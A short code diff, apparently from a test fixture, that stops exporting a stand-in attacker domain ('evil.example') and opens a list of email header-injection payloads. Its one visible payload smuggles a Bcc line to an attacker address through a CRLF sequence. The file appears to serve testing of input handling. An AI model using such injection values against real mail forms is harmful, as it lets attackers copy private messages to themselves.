@@ -1,5 +1,5 @@
 /** Where the attacks below would like mail, or a reader, to go. */
-export const EVIL = 'evil.example';
+const EVIL = 'evil.example';
 
 const HEADER_INJECTION = [
   `1\r\nBcc: mallory@${EVIL}`,
